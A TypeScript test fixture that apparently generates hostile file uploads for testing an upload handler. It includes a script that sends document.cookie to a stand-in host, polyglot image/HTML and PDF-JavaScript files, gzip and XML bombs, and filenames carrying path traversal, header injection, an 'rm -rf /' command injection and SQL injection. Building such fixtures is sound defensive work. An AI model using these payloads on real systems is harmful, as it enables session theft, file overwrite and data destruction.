import { gzipSync } from 'node:zlib'

/** A file as an attacker or a faulty client might upload it. */
export interface HostileFile {
  name: string
  type: string
  content: Buffer
}

const SCRIPT = '<script>fetch("//evil.example/"+document.cookie)</script>'
const GIF = Buffer.from('474946383961010001000000002c00000000010001000002024401003b', 'hex')
const PNG = Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex')

/** Contents that are valid in two formats, or do something when they are opened. */
const CONTENTS: Record<string, Buffer> = {
  html: Buffer.from(`<!doctype html>${SCRIPT}`),
  svg: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`),
  'gif and script': Buffer.concat([GIF, Buffer.from(`/*${SCRIPT}*/=1;`)]),
  'png and html': Buffer.concat([PNG, Buffer.from(`<html>${SCRIPT}`)]),
  'pdf with script': Buffer.from(
    '%PDF-1.7\n1 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n%%EOF',
  ),
  'zip and pdf': Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    Buffer.from('PK\x05\x06'),
    Buffer.alloc(18),
  ]),
  'gzip bomb': gzipSync(Buffer.alloc(8_000_000), { level: 9 }),
  'xml bomb': Buffer.from('<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>'),
  'server path': Buffer.from('{"path":"/etc/passwd","url":"file:///etc/passwd"}'),
  'form in a file': Buffer.from(
    '--y----boundary\r\nContent-Disposition: form-data; name="file"\r\n\r\n',
  ),
  'boundary in a file': Buffer.from('a\r\n--x----boundar\r\n--x----\r\n\r\n--'),
  nulls: Buffer.alloc(1_000),
  'one byte': Buffer.from([0xff]),
}

const TYPES = ['image/png', 'text/html; charset=utf-8', 'image/svg+xml', 'application/json', '']

/** Names that are paths, hide their extension, or break file systems. */
const NAMES = [
  '../../../../etc/cron.d/x',
  '..\\..\\x',
  'C:\\boot.ini',
  '..',
  'a\0.png',
  'a\r\nX-Evil: 1',
  'a\u2028b',
  'x'.repeat(300),
  'é'.repeat(255),
  '\u202egnp.exe',
  'CON',
  'docket.db',
  'drafts',
  "it's; rm -rf /",
  '%2e%2e%2fx',
  '<img src=x onerror=alert(1)>',
  '"; filename="b',
  "UTF-8''x",
  ' .png',
  '日本語.txt',
  "'; drop table attachments; --",
  '__proto__',
]

/** About 100 files: each content with each type, and each name. */
export const HOSTILE_FILES: readonly HostileFile[] = [
  ...Object.entries(CONTENTS).flatMap(([name, content]) =>
    TYPES.map((type) => ({ name: `${name}.png`, type, content })),
  ),
  ...NAMES.map((name) => ({ name, type: 'image/png', content: CONTENTS.svg ?? PNG })),
  ...NAMES.map((name) => ({ name, type: 'text/plain', content: Buffer.from(name || 'x') })),
]
